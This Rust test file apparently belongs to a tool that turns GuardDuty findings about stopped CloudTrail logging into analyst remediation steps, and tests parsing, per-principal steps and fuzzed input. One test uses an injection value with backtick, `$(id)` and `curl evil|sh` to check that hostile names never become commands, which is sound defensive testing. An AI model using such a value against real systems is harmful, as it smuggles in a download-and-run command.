//! What GuardDuty reports, and the steps that an analyst takes.

use proptest::prelude::*;
use serde_json::{Value, json};
use trailkeeper_core::fast_path::{
    BusEvent, GuardDutyFinding, Handler, Permissions, Principal, analyst_steps, own_role_steps,
};

use crate::{GUARDDUTY, json_of};

fn finding(event: &Value) -> GuardDutyFinding {
    let finding = match BusEvent::parse(event).unwrap() {
        BusEvent::Finding(finding) => Some(*finding),
        _ => None,
    };
    finding.unwrap()
}

#[test]
fn a_finding_about_a_trail() {
    let finding = finding(&json_of(GUARDDUTY));
    assert_eq!(finding.row().unwrap().handler, Handler::Finding);
    assert!(!finding.is_sample);
    let call = &finding.call;
    assert_eq!(call.event_name, "StopLogging");
    assert_eq!(call.time.to_string(), "2026-03-02T09:57:12Z");
    assert_eq!(call.failure, None);
    let trail = "arn:aws:cloudtrail:us-east-1:111122223333:trail/org-audit";
    assert_eq!(finding.row().unwrap().names(call), [trail]);
    assert_eq!(
        call.actor.to_string(),
        "IAMUser mallory, key AKIAIOSFODNN7EXAMPLE (long-term), from 203.0.113.24"
    );
}

/// Sent again with more of the same it is another event; of another type it is none of ours.
#[test]
fn what_makes_a_finding_another_one() {
    let event = json_of(GUARDDUTY);
    let changed = |pointer: &str, value: Value| {
        let mut event = event.clone();
        *event.pointer_mut(pointer).unwrap() = value;
        finding(&event)
    };
    let later = changed("/detail/updatedAt", json!("2026-03-02T16:00:00Z"));
    assert_ne!(later.call.id, finding(&event).call.id);
    let other = changed("/detail/type", json!("Recon:IAMUser/MaliciousIPCaller"));
    assert_eq!(other.row(), None);
    let denied = "/detail/service/action/awsApiCallAction/errorCode";
    let denied = changed(denied, json!("AccessDenied"));
    assert_eq!(
        denied.call.failure, None,
        "an earlier one of the calls had its effect"
    );
    assert_eq!(denied.error_code, "AccessDenied");
    let steps = analyst_steps(&denied, &Permissions::Unknown("x".to_owned())).join("\n");
    assert!(
        steps.contains("the calls that GuardDuty sums up failed with AccessDenied"),
        "{steps}"
    );
    let additional = "/detail/service/additionalInfo";
    for (info, expected) in [
        (json!({"sample": true}), true),
        (
            json!({"value": "{\"sample\":true}", "type": "default"}),
            true,
        ),
        (json!({"value": "{\"sample\":false}"}), false),
        (json!({"value": "not JSON"}), false),
        (Value::Null, false),
    ] {
        let seen = changed(additional, info.clone());
        assert_eq!(seen.is_sample, expected, "{info}");
    }
}

#[test]
fn a_finding_with_nothing_in_it_is_still_one() {
    let bare = json!({
        "detail-type": "GuardDuty Finding", "source": "aws.guardduty",
        "account": "111122223333", "region": "us-east-1", "time": "2026-03-02T10:00:00Z",
        "detail": {"id": "1", "type": "Stealth:IAMUser/CloudTrailLoggingDisabled"},
    });
    let finding = finding(&bare);
    assert_eq!(finding.call.actor.to_string(), "unknown");
    assert!(finding.row().unwrap().names(&finding.call).is_empty());
    for name in ["id", "type"] {
        let mut bare = bare.clone();
        bare["detail"].as_object_mut().unwrap().remove(name);
        assert!(BusEvent::parse(&bare).is_err(), "{name}");
    }
}

fn steps(kind: &str, name: &str, key: &str, permissions: &Permissions) -> String {
    let mut finding = finding(&json_of(GUARDDUTY));
    finding.principal = Principal {
        user_type: kind.to_owned(),
        user_name: name.to_owned(),
        principal_id: "AIDA:session".to_owned(),
        access_key_id: key.to_owned(),
    };
    analyst_steps(&finding, permissions).join("\n")
}

#[test]
fn the_steps_for_each_kind_of_principal() {
    let unread = Permissions::Unknown("not read".to_owned());
    let role = Permissions::OfRole {
        attached: vec!["AdministratorAccess".to_owned()],
        inline: Vec::new(),
    };
    let cases: [(&str, &str, &str, &Permissions, &[&str]); 4] = [
        (
            "IAMUser",
            "mallory",
            "AKIAIOSFODNN7EXAMPLE",
            &unread,
            &[
                "1. Affected: IAMUser mallory (AIDA:session), key AKIAIOSFODNN7EXAMPLE: a \
                 long-term key",
                "aws iam update-access-key --user-name mallory --access-key-id \
                 AKIAIOSFODNN7EXAMPLE --status Inactive",
                "list-attached-user-policies",
                "AttributeKey=AccessKeyId,AttributeValue=AKIAIOSFODNN7EXAMPLE",
            ],
        ),
        (
            "AssumedRole",
            "ci-deploy",
            "ASIAIOSFODNN7EXAMPLE",
            &role,
            &[
                "a temporary key",
                "put-role-policy --role-name ci-deploy",
                "aws:TokenIssueTime",
                "managed policies AdministratorAccess; inline policies none",
            ],
        ),
        (
            "Root",
            "",
            "AKIAIOSFODNN7EXAMPLE",
            &unread,
            &["root user, which should have none"],
        ),
        (
            "FederatedUser",
            "x",
            "",
            &unread,
            &["find the issuer", "KEY-ID"],
        ),
    ];
    for (kind, name, key, permissions, parts) in cases {
        let text = steps(kind, name, key, permissions);
        for part in parts {
            assert!(text.contains(part), "{part} is not in {text}");
        }
    }
}

/// Whoever denies the sessions of the remediator's role ends the repairs.
#[test]
fn nobody_is_told_to_disable_the_remediator() {
    let mut finding = finding(&json_of(GUARDDUTY));
    finding.principal.user_name = "tk-remediator".to_owned();
    let text = own_role_steps(&finding).join("\n");
    assert!(
        text.contains("The role tk-remediator is the remediator's"),
        "{text}"
    );
    assert!(text.contains("lookup-events"), "{text}");
    assert!(
        !text.contains("Disable") && !text.contains("put-role-policy"),
        "{text}"
    );
}

/// A name can be made to look like a command: it does not stand in one.
#[test]
fn hostile_names_stand_in_no_command() {
    let evil = "x`; curl evil|sh #\n\u{1b}[2J$(id)";
    let unread = Permissions::Unknown(evil.to_owned());
    for kind in ["IAMUser", "AssumedRole", "Root", evil] {
        let text = steps(kind, evil, &format!("AKIA{evil}"), &unread);
        assert!(!text.contains('\u{1b}'), "{text}");
        for command in text.split('`').filter(|part| part.starts_with("aws ")) {
            assert!(!command.contains("curl"), "{command}");
        }
        let placeholder = if kind == "AssumedRole" {
            "ROLE"
        } else {
            "KEY-ID"
        };
        assert!(text.contains(placeholder), "{text}");
    }
    let long = steps("IAMUser", &"x".repeat(10_000), "AKIA1", &unread);
    assert!(long.len() < 4_000, "{}", long.len());
}

fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,20}".prop_map(Value::from),
    ];
    leaf.prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(Value::from),
            prop::collection::btree_map("[a-z]{1,8}", inner, 0..3).prop_map(|map| json!(map)),
        ]
    })
}

proptest! {
    /// Whatever stands at any place of a finding, it is read or refused, and its steps are plain.
    #[test]
    fn any_value_anywhere(at in 0..PLACES.len(), value in any_json()) {
        let mut event = json_of(GUARDDUTY);
        *event.pointer_mut(PLACES[at]).unwrap() = value;
        if let Ok(BusEvent::Finding(finding)) = BusEvent::parse(&event) {
            let unread = Permissions::Unknown("not read".to_owned());
            for line in analyst_steps(&finding, &unread) {
                prop_assert!(!line.chars().any(char::is_control), "{line}");
            }
        }
    }
}

const PLACES: [&str; 12] = [
    "/detail",
    "/detail/id",
    "/detail/type",
    "/detail/region",
    "/detail/resource",
    "/detail/resource/accessKeyDetails/userType",
    "/detail/resource/accessKeyDetails/userName",
    "/detail/resource/accessKeyDetails/accessKeyId",
    "/detail/service",
    "/detail/service/additionalInfo/value",
    "/detail/service/action/awsApiCallAction/affectedResources",
    "/detail/service/eventLastSeen",
];
